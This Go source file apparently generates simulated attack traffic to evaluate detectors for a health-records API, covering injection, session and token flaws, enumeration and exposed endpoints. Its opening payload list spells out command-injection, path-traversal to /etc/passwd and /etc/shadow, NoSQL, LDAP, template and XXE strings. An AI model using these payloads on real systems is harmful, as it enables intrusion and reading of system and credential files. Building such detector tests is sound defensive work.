package main

import (
	"slices"
	"strconv"

	"auscult/detectors/eval/world"
	"auscult/sensor/call"
	"auscult/sensor/http"
	"auscult/sensor/packet"
	"auscult/sensor/phi"
)

// payloads of injection families beside SQL, of the lists that scanners bring.
var payloads = [...][]string{
	{"; cat /etc/passwd", "| id", "$(sleep 5)", "`whoami`"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/passwd"},
	{`{"$ne": null}`, `{"$gt": ""}`, `{"$where": "sleep(5000)"}`},
	{"*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*"},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}"},
	{`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>`, `<!ENTITY % d SYSTEM "http://198.51.100.7/e.dtd">`},
}

// inject sends payloads of one family in a search.
func injected(family int) func(*plot) {
	return func(p *plot) {
		for i := range 24 {
			list := payloads[family]
			p.step(p.who, 1, world.NameSearch, 2*world.Second, p.with(list[i%len(list)], nil))
		}
	}
}

// more are attacks on sessions, on writes, on numbers, and on what a server should not do.
var more = []scenario{
	{"command injection", []string{"injection"}, attacker, injected(0)},
	{"path traversal", []string{"injection", "recon_probe"}, attacker, injected(1)},
	{"NoSQL injection", []string{"injection"}, attacker, injected(2)},
	{"LDAP injection", []string{"injection"}, attacker, injected(3)},
	{"template injection", []string{"injection"}, attacker, injected(4)},
	{"external entities", []string{"injection"}, attacker, injected(5)},
	{"server-side requests into the network", []string{"ssrf_param"}, attacker, func(p *plot) {
		for i := range 8 {
			p.step(p.who, 0, world.Inbox, 2*world.Second, func(c *call.Call) {
				request(c, "POST", "/api/webhooks", "/api/webhooks")
				p.arg(c, call.InBody, "url", "http://10.0.0."+strconv.Itoa(5+i)+":8080/")
			})
		}
	}},
	{"a role assigned to oneself", []string{"mass_assignment"}, attacker, func(p *plot) {
		profile := func(role string) func(*call.Call) {
			return func(c *call.Call) {
				request(c, "PUT", "/api/profile", "/api/profile")
				c.Objects, c.Delivered, c.PHI = nil, nil, call.Found{}
				p.arg(c, call.InBody, "phone", "+1 555 0123")
				shown := "user"
				if role != "" {
					p.arg(c, call.InBody, "role", role)
					shown = role
				}
				c.Answer.Props = []call.Prop{{Key: fnv("propphone"), Name: "phone"}, prop("role", shown)}
			}
		}
		for i := range 8 {
			p.step(p.another(i), 0, world.Inbox, world.Minute, profile(""))
		}
		p.prelude(8)
		p.step(p.who, 0, world.Inbox, world.Minute, profile("admin"))
	}},
	{"an insurance verified by oneself", []string{"mass_assignment"}, attacker, func(p *plot) {
		form := func(i int, status string) func(*call.Call) {
			return func(c *call.Call) {
				request(c, "PATCH", "/api/coverage/"+strconv.Itoa(4000+i), "/api/coverage/{id}")
				c.Objects, c.Delivered, c.PHI = nil, nil, call.Found{}
				p.arg(c, call.InBody, "phone", "+1 555 01"+strconv.Itoa(10+i))
				p.arg(c, call.InBody, "address", "1 Main Street")
				shown := "unverified"
				if status != "" {
					p.arg(c, call.InBody, "insuranceStatus", status)
					shown = status
				}
				c.Answer.Props = []call.Prop{{Key: fnv("propphone"), Name: "phone"}, prop("insuranceStatus", shown)}
			}
		}
		honest, n := 0, 0
		for i := 0; honest < 12; i++ { // of the attacker's own role
			if who := p.another(i); p.w.People[who].Role == world.Nurse {
				p.step(who, 0, world.Inbox, world.Minute, form(honest, ""))
				honest++
			}
		}
		p.prelude(honest)
		for ; n < 4; n++ {
			p.step(p.who, 0, world.Inbox, world.Minute, form(50+n, "verified"))
		}
	}},
	{"token in the URL", []string{"weak_token"}, attacker, func(p *plot) {
		for range 12 {
			p.step(p.who, p.patient(), world.Results, 20*world.Second, func(c *call.Call) { c.Auth.Marks |= call.InURL })
		}
	}},
	{"sessions kept over a login", []string{"weak_token"}, endpoint, func(p *plot) {
		for i := range 7 {
			p.step(p.another(i), 0, world.SignIn, world.Minute, func(c *call.Call) {
				c.Principal = call.Principal{Key: fnv("early" + strconv.Itoa(i)), Kind: call.Session, ID: "s" + strconv.Itoa(i), Token: fnv("early" + strconv.Itoa(i))}
				c.Server.Addr[15], c.Endpoint = 77, fnv("fixed") // a server of its own
				c.Auth.Scheme, c.Issued, c.Handed, c.Flags = call.Cookie, nil, nil, call.Login
				if i == 0 {
					refuse(c, 401)
				}
			})
		}
		p.prelude(1)
	}},
	{"sessions counted up", []string{"weak_token"}, endpoint, func(p *plot) {
		for i := range 16 {
			p.step(p.another(i), 0, world.SignIn, world.Minute, func(c *call.Call) {
				c.Handed = []call.Handed{{Token: fnv("count" + strconv.Itoa(i)), Name: "PHPSESSID", Value: strconv.Itoa(88_120_400 + 3*i), Marks: call.IsCookie | call.HTTPOnly | call.SecureOnly}}
			})
		}
	}},
	{"sessions guessed", []string{"weak_token", "auth_bruteforce"}, attacker, func(p *plot) {
		for i := range 40 {
			p.step(p.who, 0, world.Inbox, world.Second, func(c *call.Call) {
				p.outside(c, requests)
				id := strconv.Itoa(71_230_000 + i)
				c.Principal, c.Auth = call.Principal{Key: fnv("guess" + id), Kind: call.Session, ID: id, Token: fnv("guess" + id), Strength: 50}, call.Auth{Scheme: call.Cookie}
				refuse(c, 401)
			})
		}
	}},
	{"many users' tokens on one machine", []string{"token_reuse", "distributed_enumeration"}, attacker, func(p *plot) {
		for i := range 12 {
			p.step(p.another(7*i), p.patient(), world.ChartOpen, 5*world.Second, nil)
		}
		p.prelude(12)
		p.at += 10 * world.Minute
		for i := range 36 {
			p.step(p.another(7*(i%12)), p.patient(), world.ChartOpen, 3*world.Second, func(c *call.Call) { p.outside(c, requests) })
		}
	}},
	{"a service account in a browser", []string{"service_account_misuse", "token_reuse"}, attacker, func(p *plot) {
		p.who = slices.IndexFunc(p.w.People, func(x *world.Person) bool { return x.Who.ID == "svc-warehouse" })
		for range 12 {
			p.step(p.who, p.patient(), world.ChartOpen, 10*world.Second, func(c *call.Call) {
				c.Client.Addr, c.UserAgent = p.from, "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"
			})
		}
	}},
	{"a request hidden in another", []string{"request_smuggling"}, attacker, func(p *plot) {
		for range 3 {
			p.step(p.who, 0, world.Inbox, 2*world.Second, func(c *call.Call) { p.outside(c, requests); c.Marks |= http.Ambiguous | http.Smuggled })
		}
	}},
	{"bytes sent twice with other values", []string{"desync_evasion"}, attacker, func(p *plot) {
		for range 3 {
			p.step(p.who, 0, world.Inbox, 2*world.Second, func(c *call.Call) { p.outside(c, requests); c.Marks |= http.Conflict })
		}
	}},
	{"records under a withdrawn consent", []string{"consent_gap"}, attacker, func(p *plot) {
		post := func(path string, pairs ...string) func(*call.Call) {
			return func(c *call.Call) {
				request(c, "POST", path, path)
				c.Objects, c.Delivered, c.PHI, c.Status = nil, nil, call.Found{}, 202
				for i := 0; i < len(pairs); i += 2 {
					p.arg(c, call.InBody, pairs[i], pairs[i+1])
				}
			}
		}
		id := "c-" + strconv.FormatUint(p.r.Uint64(), 16)
		for _, status := range []string{"GRANTED", "REVOKED"} {
			p.step(p.another(1), 0, world.Inbox, 10*world.Minute, post("/api/v3/consent/request/hip/notify", "notification.status", status, "notification.consentId", id))
		}
		p.prelude(2)
		for range 3 {
			p.step(p.who, 0, world.Inbox, world.Minute, post("/api/v3/hip/health-information/request", "transactionId", "t-"+id, "hiRequest.consent.id", id, "hiRequest.dataPushUrl", "https://hiu.example/push"))
		}
	}},
	{"records changed in a row", []string{"bulk_write_delete"}, attacker, func(p *plot) {
		for range 80 {
			p.step(p.who, p.patient(), world.ChartOpen, 3*world.Second, func(c *call.Call) {
				c.Method, c.FHIR.Interaction, c.Endpoint = "PUT", "update", c.Endpoint^0xc4a9e
			})
		}
	}},
	{"queries that cost much", []string{"resource_exhaustion"}, attacker, func(p *plot) {
		for i := range 6 {
			p.step(p.who, 0, world.Inbox, 2*world.Second, func(c *call.Call) {
				request(c, "POST", "/graphql", "/graphql")
				c.Flags, c.Graph = call.GraphQL, call.Graph{Depth: 12, Aliases: 100 << i}
			})
		}
	}},
	{"a page of four hundred", []string{"oversized_phi", "bulk_export", "bola_fanout"}, atOnce, func(p *plot) {
		p.step(p.who, 1, world.NameSearch, world.Second, func(c *call.Call) {
			c.Asked, c.PHI.People, c.PHI.Records, c.FHIR.Entries = 1000, 400, 400, 400
		})
	}},
	{"numbers walked", []string{"sequential_enumeration"}, attacker, func(p *plot) {
		base := p.patient()
		for i := range 60 {
			p.step(p.who, 1+(base+i)%p.w.Top(), world.ChartOpen, 2*world.Second, nil)
		}
	}},
	{"patients opened at random", []string{"bola_fanout", "low_slow_scrape", "sequential_enumeration"}, attacker, func(p *plot) {
		for range 60 {
			p.step(p.who, p.patient(), world.ChartOpen, 20*world.Second, nil)
		}
	}},
	{"the directory searched all day", []string{"low_slow_scrape", "bola_fanout"}, attacker, func(p *plot) {
		for range 400 {
			n := p.patient()
			p.step(p.who, n, world.NameSearch, 2*world.Second, nil)
			p.step(p.who, n, world.ChartOpen, 25*world.Second, nil)
		}
	}},
	{"numbers walked by twenty accounts", []string{"distributed_enumeration"}, attacker, func(p *plot) {
		base := p.patient()
		for i := range 120 {
			p.step(p.another(i%20-1), 1+(base+i)%p.w.Top(), world.ChartOpen, 30*world.Second, nil)
		}
	}},
}

// postures are faults of endpoints.
var postures = []scenario{
	{"social security numbers in a list", []string{"excess_property"}, endpoint, func(p *plot) {
		for range 5 {
			p.step(p.staff(), 1, world.CohortPage, world.Minute, func(c *call.Call) {
				c.PHI.Classes |= phi.SSN
				c.Answer.Props = append(slices.Clone(c.Answer.Props), call.Prop{Key: fnv("propssn"), Name: "ssn", Class: phi.SSN})
			})
		}
	}},
	{"an endpoint nobody knows", []string{"shadow_api"}, endpoint, func(p *plot) {
		for range 6 {
			p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
				request(c, "GET", "/api/patients-full/"+c.Objects[0].ID, "/api/patients-full/{id}")
			})
		}
	}},
	{"an interface for tests", []string{"shadow_api"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
			request(c, "GET", "/api/debug/patients/"+c.Objects[0].ID, "/api/debug/patients/{id}")
		})
	}},
	{"an old version that answers", []string{"shadow_api"}, endpoint, func(p *plot) {
		version := func(v string) func(*call.Call) {
			return func(c *call.Call) {
				request(c, "GET", "/portal/api/"+v+"/records/"+c.Objects[0].ID, "/portal/api/"+v+"/records/{id}")
			}
		}
		for range 30 {
			p.step(p.staff(), p.patient(), world.ChartOpen, world.Minute, version("v3"))
		}
		p.prelude(30)
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, version("v1"))
	}},
	{"health data in the clear", []string{"cleartext_phi"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
			c.Server.Addr[15], c.Server.Port, c.Secure = 78, 80, call.Secure{}
		})
	}},
	{"a patient's number in the URL", []string{"phi_in_url"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
			request(c, "GET", "/api/find", "/api/find")
			p.arg(c, call.InQuery, "ssn", "536-22-1938")
		})
	}},
	{"another's service without TLS", []string{"unsafe_consumption"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
			c.Server, c.Secure = packet.Endpoint{Addr: packet.Addr{10: 0xff, 11: 0xff, 12: 198, 13: 51, 14: 100, 15: 20}, Port: 80}, call.Secure{}
		})
	}},
	{"an API key in the URL", []string{"credential_hygiene"}, endpoint, func(p *plot) {
		p.step(p.who, 0, world.Inbox, world.Minute, func(c *call.Call) {
			c.Principal = call.Principal{Key: fnv("key"), Kind: call.APIKey, ID: "k1", Token: fnv("key"), Strength: 60}
			c.Auth = call.Auth{Scheme: call.KeyQuery}
		})
	}},
	{"one API key on many machines", []string{"credential_hygiene"}, endpoint, func(p *plot) {
		for i := range 8 {
			p.step(p.another(i), 0, world.Inbox, world.Minute, func(c *call.Call) {
				c.Principal = call.Principal{Key: fnv("key2"), Kind: call.APIKey, ID: "k2", Token: fnv("key2"), Strength: 60}
				c.Auth, c.UserAgent = call.Auth{Scheme: call.KeyHeader}, []string{"curl/8.4.0", "okhttp/4.12.0"}[i%2]
			})
		}
	}},
	{"tokens without an end", []string{"credential_hygiene"}, endpoint, func(p *plot) {
		p.step(p.who, p.patient(), world.ChartOpen, world.Minute, func(c *call.Call) {
			c.Principal.Kind = call.JWT
			c.Auth = call.Auth{Scheme: call.Bearer, Marks: call.NoExpiry, Issued: c.Time - world.Hour}
		})
	}},
	{"a session cookie for scripts", []string{"credential_hygiene"}, endpoint, func(p *plot) {
		p.step(p.who, 0, world.SignIn, world.Minute, func(c *call.Call) {
			c.Handed = []call.Handed{{Token: fnv("loose"), Name: "sid", Value: "9f86d081884c7d659a2feaa0c55ad015", Marks: call.IsCookie | call.SecureOnly}}
		})
	}},
	{"what the operator's own rule forbids", []string{"user_rule"}, attacker, func(p *plot) {
		p.step(p.who, 0, world.Inbox, world.Minute, func(c *call.Call) { c.Method, c.Endpoint = "PURGE", c.Endpoint^0x9c }) // scenarioRule
	}},
}
